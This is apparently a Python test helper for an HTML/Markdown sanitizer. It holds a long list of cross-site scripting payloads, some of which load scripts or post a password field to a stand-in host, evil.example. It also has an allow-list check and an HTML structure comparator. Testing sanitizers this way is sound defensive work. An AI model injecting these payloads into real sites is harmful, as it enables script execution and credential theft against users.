"""What tests of markup share: hostile texts, and a way to compare the shape of two HTMLs."""

import re
from html.parser import HTMLParser

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    '<img src="x"/onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img src=vbscript:msgbox(1)>",
    "<img src=x:alert(1)>",
    '<img srcset="x onerror=alert(1) 1x">',
    '<img alt="`><script>alert(1)</script>">',
    '<img title="--><img src=x onerror=alert(1)>">',
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=https://x.example onclick=alert(1)>x</a>",
    "<a href=https://x.example target=_blank ping=https://evil.example>x</a>",
    '<a href="https://x.example" style="position:fixed">x</a>',
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a id=acts name=csrfmiddlewaretoken href=/>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style=width:expression(alert(1))>x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<button form=acts formaction=/delete/>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<table background=javascript:alert(1)><td>x",
    "<td onmouseover=alert(1)>x",
    "<ol start='1\" onmouseover=alert(1)'><li>x</ol>",
    "<code class='language-x\" onmouseover=\"alert(1)'>x</code>",
    "<pre class=\"lang-x onmouseover=alert(1)\"><code>x</code></pre>",
    "<pre><code class='language-html'>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
    "<span class='mention' id=x>x</span>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 'x' ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<x onclick=alert(1)>x</x>",
    "<p/onclick=alert(1)>x</p>",
    "<p\x00onclick=alert(1)>x</p>",
    "<p\x0conclick=alert(1)>x</p>",
    "< script>alert(1)</ script>",
    "\ufeff<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#" + "1" * 6000 + ";<script>alert(1)</script>",
    '<a href="&#' + "1" * 6000 + ';">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](\x01javascript:alert(1))",
    "[x](https://x.example\"onmouseover=\"alert(1))",
    "[x](https://x.example 'title\" onmouseover=\"alert(1)')",
    "[x](https://x.example/<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](https://x.example/a.png\"onerror=\"alert(1))",
    "![x\" onerror=\"alert(1)](https://x.example/a.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<https://x.example/\"onmouseover=alert(1)>",
    "https://x.example/\"onmouseover=alert(1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: https://x.example \"t\\\" onmouseover=alert(1)\"",
    "```\"onmouseover=alert(1)\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```<script>\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "<kbd onclick=alert(1)>x</kbd>",
    "<kbd><script>alert(1)</script></kbd>",
    "<sup><img src=x onerror=alert(1)></sup>",
    "<strong>[x](javascript:alert(1))</strong>",
    "<br onclick=alert(1)>",
    "@<script>alert(1)</script>",
    "#<img src=x onerror=alert(1)>",
]  # fmt: skip


class Elements(HTMLParser):
    """The elements of an HTML as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


ALLOWED = {
    "a": {"href", "title", "rel", "class"},
    "img": {"src", "alt", "title", "width", "height", "loading"},
    "ol": {"start"},
    "code": {"class"},
    "span": {"class"},
    "td": {"class"},
    "th": {"class"},
}
BARE = """blockquote br dd dl dt em h3 h4 h5 h6 hr ins kbd li p pre s strong sub sup table tbody
thead tr ul"""
ALLOWED |= {name: set() for name in BARE.split()}


def assert_harmless(html: str) -> None:
    elements = Elements(html)
    assert not elements.other, html
    for name, attributes in elements.found:
        assert name in ALLOWED, html
        assert set(attributes) <= ALLOWED[name], html
        if name == "a":
            assert re.match(r"https?://|mailto:|tel:|/|#", attributes["href"] or "", re.I), html
            assert attributes["rel"] == "ugc nofollow noopener"
        if name == "img":
            assert re.match(r"https?://|/media/", attributes["src"] or "", re.I), html
            assert attributes["loading"] == "lazy"


class Shape(HTMLParser):
    """Elements and words of an HTML, but for what Markdown cannot tell apart."""

    BLOCKS = frozenset(
        {
            "blockquote",
            "br",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "li",
            "ol",
            "pre",
            "table",
            "td",
            "tr",
            "ul",
        }
    )
    SAME = {"th": "td"}
    LEFT_OUT = frozenset({"p", "span", "tbody", "thead"})
    TELLING = frozenset({"href", "src", "alt", "start", "title"})

    def __init__(self, html: str) -> None:
        super().__init__()
        self.parts: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        tag = self.SAME.get(tag, tag)
        told = "".join(f" {n}={v}" for n, v in sorted(attrs) if n in self.TELLING and v)
        self._add(tag, f"<{tag}{told}>")

    def handle_endtag(self, tag: str) -> None:
        tag = self.SAME.get(tag, tag)
        self._add(tag, f"</{tag}>")

    def handle_data(self, data: str) -> None:
        self.parts.append(data)

    def _add(self, tag: str, written: str) -> None:
        if tag in self.LEFT_OUT:
            self.parts.append(" " if tag == "p" else "")
        else:
            self.parts.append(f" {written} " if tag in self.BLOCKS else written)

    def __str__(self) -> str:
        return re.sub(r"[ \n\t]+", " ", "".join(self.parts)).strip(" ")
